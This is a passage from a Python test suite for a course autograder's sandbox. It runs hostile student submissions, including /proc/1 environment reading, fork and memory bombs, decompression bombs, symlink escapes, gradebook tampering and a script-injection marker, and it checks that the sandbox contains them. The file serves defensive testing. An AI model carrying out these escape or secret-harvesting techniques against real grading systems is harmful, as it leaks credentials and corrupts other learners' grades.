    feedback = course.root / "autograder" / "feedback" / student / "ch01" / "ch01.html"
    return _autograded(batch, student) + (feedback.read_text() if feedback.exists() else "")


def test_no_grader_secret_reaches_the_sandbox(batch):
    """bubblewrap's pid 1 and the learner's process have only the sandbox's own minimal
    environment: the grader's (SECRET) reaches no output and no feedback."""
    text = _outputs(batch, "reads-proc-1-and-hunts-with-gc")
    assert "/proc/1/environ PATH=" in text and "/proc/1/cmdline" in text, text[:3000]
    environ = text.split("/proc/1/environ", 1)[1].split("/proc/1/cmdline", 1)[0]
    assert set(environ.split()) <= {"PATH=/usr/local/bin:/usr/bin:/bin", "LANG=C.UTF-8"}, environ
    for student in batch["verdicts"]:
        assert SECRET not in _all_text(batch, student), student


def test_runner_memory_holds_no_hidden_test_or_token(batch):
    text = _outputs(batch, "reads-proc-1-and-hunts-with-gc")
    assert "HUNT FOUND 0" in text, text[-3000:]


def test_tmp_and_work_area_are_sized(batch):
    text = _outputs(batch, "fills-tmp-and-work")
    sizes = {line.split()[1]: int(line.split()[2]) for line in text.splitlines()
             if line.startswith("FULL ")}
    assert set(sizes) == {"/tmp", "/grading/sub"}, text[:2000]
    assert all(0 < mb <= 256 for mb in sizes.values()), sizes


def test_whole_sandbox_memory_is_held(batch):
    from autograder.pipeline import cgroup
    verdict = batch["verdicts"]["fork-and-allocate"]
    text = _outputs(batch, "fork-and-allocate")
    if cgroup.available().startswith("cgroup"):
        assert verdict["limits"].startswith("cgroup v") and "2048 MB" in verdict["limits"]
        assert 0 < verdict["peak_mb"] <= 2048 * 1.01, verdict["peak_mb"]
        killed = int(text.split("children killed", 1)[1].split()[0])
        assert killed >= 2, text  # at most two of four 900 MB children fit in 2048 MB
        assert any("memory limit" in i for i in verdict["incidents"]), verdict["incidents"]
    else:  # the documented fallback: per-process limits, said so in the verdict
        assert verdict["limits"].startswith("per-process limits only"), verdict["limits"]


def test_work_folders_are_removed_after_judging(batch):
    work = batch["course"].root / "autograder" / ".scratch" / "ch01" / "work"
    assert not work.exists() or not any(work.iterdir()), sorted(work.iterdir())[:5]


def _tree_digest(top, *, contents: bool = True) -> dict:
    """{relative path: digest} of every entry under ``top`` (links as their target)."""
    import hashlib
    import os
    out = {}
    for folder, dirs, files in os.walk(top):
        for name in dirs + files:
            path = os.path.join(folder, name)
            rel = os.path.relpath(path, top)
            if os.path.islink(path):
                out[rel] = "link:" + os.readlink(path)
            elif os.path.isfile(path):
                st = os.lstat(path)
                if contents:
                    with open(path, "rb") as f:
                        out[rel] = hashlib.sha256(f.read()).hexdigest()
                else:
                    out[rel] = f"{st.st_size}:{st.st_mtime_ns}"
    return out


BOUNDARY_CASES = ["symlinks-then-crash", "links-to-other-learners", "file-count-flood",
                  "decompression-bomb", "fills-tmp-and-work", "fork-and-allocate",
                  "reads-proc-1-and-hunts-with-gc", "detached-process-rewrites-gradebook"]


def test_hostile_regrade_changes_nothing_outside_the_sandbox(batch):
    """Regrade the boundary cases: every learner's submitted folder, the package
    snapshot, the venv, the course's solutions and config, and the link targets stay
    byte-identical; other learners' grades do not move; the gradebook stays sound; the
    regraded learners get the same grades again."""
    import sqlite3
    course = batch["course"]
    root = course.root
    watched = {"submitted": (root / "autograder" / "submitted", True),
               "snapshot": (root / "autograder" / ".scratch" / "sandbox", True),
               "solutions": (root / "solutions", True),
               "repo-solutions": (REPO / "solutions", True),
               "venv": (sys.prefix, False)}
    before = {k: _tree_digest(p, contents=c) for k, (p, c) in watched.items()}
    singles = [root / "nbgrader_config.py", REPO / "nbgrader_config.py",
               *map(__import__("pathlib").Path,
                    batch["ctx"]["symlinks-then-crash"]["link_targets"])]
    single_before = {str(p): p.read_bytes() for p in singles if p.is_file()}
    scores_before = course.scores("ch01")
    proc = subprocess.run(
        [sys.executable, "-m", "autograder.grade", "ch01", "--root", str(root), "-q",
         "--no-feedback", "--cell-timeout", "45", "--notebook-timeout", "150",
         "--memory-mb", "1536", "--sandbox-memory-mb", "2048"]
        + [a for s in BOUNDARY_CASES for a in ("--student", s)],
        cwd=REPO, env={**nbgrader_env(), "RNNCOURSE_TEST_SECRET": SECRET},
        capture_output=True, text=True, timeout=900)
    assert proc.returncode == 0, proc.stderr[-3000:]
    time.sleep(1.5)
    after = {k: _tree_digest(p, contents=c) for k, (p, c) in watched.items()}
    for key in watched:
        assert after[key] == before[key], (key, [k for k in set(after[key]) ^ set(before[key])][:5])
    assert {str(p): p.read_bytes() for p in singles if p.is_file()} == single_before
    assert course.scores("ch01") == scores_before
    db = sqlite3.connect(root / "autograder" / "gradebook.db")
    try:
        assert db.execute("pragma integrity_check").fetchone()[0] == "ok"
    finally:
        db.close()


def test_learner_html_is_shown_as_text(batch):
    nb = json.loads(_autograded(batch, "script-outputs"))
    assert "widgets" not in nb["metadata"]
    for cell in nb["cells"]:
        for out in cell.get("outputs", []):
            assert set(out.get("data", {})) <= {"text/plain", "image/png", "image/jpeg"}
    text = (batch["course"].root / "autograder" / "feedback" / "script-outputs" / "ch01"
            / "ch01.html").read_text()
    assert "window.PWNED=1" in html.unescape(text)  # shown, as text
    assert not re.search(r"<script[^>]*>[^<]*PWNED", text)
    assert not re.search(r"<[^>]*\sonerror=", text)
    for student in batch["verdicts"]:  # and in nobody's autograded notebook as HTML
        for cell in json.loads(_autograded(batch, student))["cells"]:
            for out in cell.get("outputs", []):
                assert set(out.get("data", {})) <= {"text/plain", "image/png",
                                                    "image/jpeg"}, (student, out)
